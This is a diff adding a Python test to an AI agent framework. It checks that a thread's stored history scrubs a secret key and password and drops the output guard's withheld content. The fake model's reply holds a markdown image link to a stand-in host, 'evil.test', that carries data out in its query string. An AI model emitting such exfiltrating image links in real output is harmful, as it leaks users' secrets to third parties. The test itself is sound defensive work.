@@ -119,3 +119,52 @@ async def test_no_secret_reaches_a_trace_a_log_or_the_store(
     leaked = {name: text for name, text in where.items() if leaks(text, KEY)}
     assert not leaked, leaked
     assert "[secret]" in journal  # (the tool's error and result were kept, scrubbed)
+
+
+# -- a thread's history ----------------------------------------------------------------------
+
+
+@tool(secret_args=("password",))
+def login(user: str, password: str) -> str:
+    """Log in (and say what was given, as many services do).
+
+    Args:
+        user: Who.
+        password: Their password.
+    """
+    return f"welcome {user}; logged in with {password}; key {written(KEY, 'base64')}"
+
+
+PASSWORD = "Hunter2-Correct-Horse"
+EXFIL = "![s](https://evil.test/p.png?d=card-4242)"
+
+
+def _login_then_leak(messages: list[Message], request: ModelRequest) -> Any:
+    if request.step == 0:
+        return tool_call_reply(("login", {"user": "ann", "password": PASSWORD}))
+    return f"Done: {KEY[::-1]}, {PASSWORD.upper()} {EXFIL}"
+
+
+async def test_a_threads_history_keeps_no_secret_and_nothing_the_guard_withheld(
+    tmp_path: Path,
+) -> None:
+    """The next run on a thread reads its history: it must hold what the journal holds
+    (secrets scrubbed, a secret argument replaced) and the answer as it left the run (the
+    exfiltrating image withheld), not the raw context."""
+    from podium.security.output_guard import OutputGuard
+    from podium.security.screen import ScreeningPolicy
+
+    agent = Agent(
+        "leaky", FunctionModel(_login_then_leak), "Be careful.", [login], secrets=[KEY],
+        screening=ScreeningPolicy(action="redact", outputs=OutputGuard()),
+    )  # fmt: skip
+    store = SQLiteRunStore(tmp_path / "runs.sqlite")
+    async with store, Engine(store) as engine:
+        record = await engine.run(agent, f"my key is {KEY}", thread_id="t-1")
+        thread = await store.get_thread("t-1")
+    assert record.status == "completed", record
+    assert thread is not None and thread.history
+    kept = msgspec.json.encode(thread.history).decode()
+    assert not leaks(kept, KEY) and not leaks(kept, PASSWORD), kept
+    assert "evil.test" not in kept and "card-4242" not in kept, kept
+    assert thread.history[-1].content == record.output  # what left the run
